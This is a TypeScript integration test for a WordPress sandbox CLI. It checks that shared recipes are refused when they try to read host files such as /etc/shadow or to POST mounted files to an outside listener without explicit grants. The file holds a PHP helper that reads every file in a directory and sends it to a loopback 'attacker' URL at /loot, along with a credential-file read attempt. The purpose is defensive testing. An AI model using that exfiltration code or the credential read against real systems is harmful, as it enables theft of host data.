/**
 * Integration: a shared recipe cannot read the host or send it out. A real listener on a random
 * loopback port stands in for an attacker's server: refused recipes (exit 2, nothing booted) must
 * leave it untouched, and a granted one reaches exactly the host it was granted, in a real
 * WordPress sandbox.
 */
import { after, before, describe, it } from "node:test";
import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import { existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { runCli, type CliIo } from "@wp-codebox/cli";

const ROOT = fileURLToPath(new URL("../../", import.meta.url));
const scratch = mkdtempSync(join(tmpdir(), "wp-codebox-host-access-"));

async function cli(argv: string[]) {
  let stdout = "";
  let stderr = "";
  const io: CliIo = { stdout: (t) => void (stdout += t), stderr: (t) => void (stderr += t), env: process.env, cwd: ROOT };
  const code = await runCli(argv, { io, installSignalHandlers: () => () => undefined });
  return { code, stdout, stderr, show: () => `exit ${code}\n--- stdout ---\n${stdout.slice(0, 4000)}\n--- stderr ---\n${stderr.slice(-4000)}` };
}

/** Every TCP connection and request the listener saw. */
const seen = { connections: 0, requests: [] as string[] };
let listener: Server;
let port = 0;

before(async () => {
  listener = createServer((req, res) => {
    seen.requests.push(`${req.method} ${req.url}`);
    req.resume();
    req.on("end", () => res.end("received"));
  });
  listener.on("connection", () => void (seen.connections += 1));
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  port = (listener.address() as AddressInfo).port;
});
after(async () => {
  await new Promise<void>((resolve) => listener.close(() => resolve()));
  rmSync(scratch, { recursive: true, force: true });
});

/** PHP that POSTs every file under `dir` to `url` and prints what happened. */
const exfiltrate = (dir: string, url: string) =>
  `<?php $out = []; foreach (glob('${dir}/*') ?: [] as $f) { if (is_file($f)) $out[$f] = file_get_contents($f); }
$ctx = stream_context_create(['http' => ['method' => 'POST', 'content' => json_encode($out), 'timeout' => 5, 'ignore_errors' => true]]);
$r = @file_get_contents('${url}', false, $ctx); echo $r === false ? 'blocked' : $r;`;

function writeRecipe(name: string, recipe: Record<string, unknown>): string {
  const dir = mkdtempSync(join(scratch, `${name}-`));
  const file = join(dir, "recipe.json");
  writeFileSync(file, JSON.stringify({ schema: "wp-codebox/workspace-recipe/v1", ...recipe }));
  return file;
}

describe("a shared recipe cannot read or send out the host", { timeout: 600_000 }, () => {
  it('"code": "@/etc/shadow" is refused by recipe plan and run (exit 2, path-not-allowed), its content never printed', async () => {
    const file = writeRecipe("shadow", { steps: [{ command: "wordpress.run-php", args: { code: "@/etc/shadow" } }] });
    const plan = await cli(["recipe", "plan", file, "--json"]);
    assert.equal(plan.code, 2, plan.show());
    assert.match(plan.stderr, /error\[path-not-allowed\]/);
    assert.match(plan.stderr, /\/steps\/0\/args\/code: path-not-allowed: \/etc\/shadow is outside/);
    assert.doesNotMatch(plan.stdout + plan.stderr, /root:/);
    const out = join(scratch, "shadow-out");
    const run = await cli(["recipe", "run", file, "--artifacts", out]);
    assert.equal(run.code, 2, run.show());
    assert.equal(existsSync(out), false, "no bundle is written for a refused recipe");
    const validate = await cli(["recipe", "validate", file, "--json"]);
    assert.equal(validate.code, 2, validate.show());
    assert.equal((JSON.parse(validate.stdout) as { issues: { path: string }[] }).issues[0]!.path, "/steps/0/args/code");
  });

  // A recipe that mounts /etc/apt and POSTs it to the listener, under network: allow.
  const grantsTable: { grants: string[]; code: string }[] = [
    { grants: [], code: "path-not-allowed" },
    { grants: ["--allow-path", "/etc/apt"], code: "network-not-allowed" },
    { grants: ["--allow-network", "*"], code: "path-not-allowed" },
    { grants: ["--allow-path", "/etc/apt", "--allow-network", "example.com"], code: "network-not-allowed" },
  ];
  for (const row of grantsTable) {
    it(`mount /etc/apt + network allow, grants ${JSON.stringify(row.grants)}: exit 2 (${row.code}) before boot, the listener receives nothing`, async () => {
      const file = writeRecipe("apt", {
        inputs: { mounts: [{ source: "/etc/apt", target: "/workspace/apt" }] },
        policy: { network: "allow" },
        steps: [{ command: "wordpress.run-php", args: { code: exfiltrate("/workspace/apt", `http://127.0.0.1:${port}/loot`) }, expect: { stdoutContains: "received" } }],
      });
      const before = { ...seen, requests: [...seen.requests] };
      const run = await cli(["recipe", "run", file, ...row.grants, "--artifacts", join(scratch, `apt-out-${row.grants.length}`)]);
      assert.equal(run.code, 2, run.show());
      assert.match(run.stderr, new RegExp(`error\\[${row.code}\\]`));
      assert.equal(seen.connections, before.connections);
      assert.deepEqual(seen.requests, before.requests);
    });
  }

  it("allowHosts naming the listener is refused unless a grant covers that host", async () => {
    const file = writeRecipe("hosts", {
      policy: { network: { allowHosts: ["127.0.0.1"] } },
      steps: [{ command: "wordpress.run-php", args: { code: exfiltrate("/tmp", `http://127.0.0.1:${port}/hosts`) } }],
    });
    for (const grants of [[], ["--allow-network", "localhost"], ["--allow-network", "http://127.0.0.2:80"]]) {
      const run = await cli(["recipe", "run", file, ...grants, "--artifacts", join(scratch, "hosts-out")]);
      assert.equal(run.code, 2, run.show());
      assert.match(run.stderr, /\/policy\/network\/allowHosts\/0: network-not-allowed/);
    }
    assert.equal(seen.connections, 0);
    const wildcard = await cli(["recipe", "run", file, "--allow-network", "*.0.0.1", "--artifacts", join(scratch, "hosts-out")]);
    assert.equal(wildcard.code, 2, wildcard.show());
    assert.match(wildcard.stderr, /error\[invalid-argument\]: --allow-network "\*\.0\.0\.1": puts a wildcard on an IP address/);
    assert.equal(seen.connections, 0);
  });

  it("the control: the same /etc/apt recipe, granted both, boots and does reach the listener", async () => {
    const file = writeRecipe("apt-granted", {
      inputs: { mounts: [{ source: "/etc/apt", target: "/workspace/apt" }] },
      policy: { network: "allow" },
      steps: [{ command: "wordpress.run-php", args: { code: exfiltrate("/workspace/apt", `http://127.0.0.1:${port}/loot`) }, expect: { stdoutContains: "received" } }],
    });
    assert.deepEqual(seen.requests, [], "nothing reached the listener before the grants");
    const run = await cli(["recipe", "run", file, "--allow-path", "/etc/apt", "--allow-network", `http://127.0.0.1:${port}`, "--artifacts", join(scratch, "apt-granted-out")]);
    // A grant narrower than the policy's "allow" is still refused: the file cannot widen it.
    assert.equal(run.code, 2, run.show());
    const granted = await cli(["recipe", "run", file, "--allow-path", "/etc/apt", "--allow-network", "*", "--artifacts", join(scratch, "apt-granted-out"), "--json"]);
    assert.equal(granted.code, 0, granted.show());
    assert.deepEqual(seen.requests, ["POST /loot"]);
  });
});
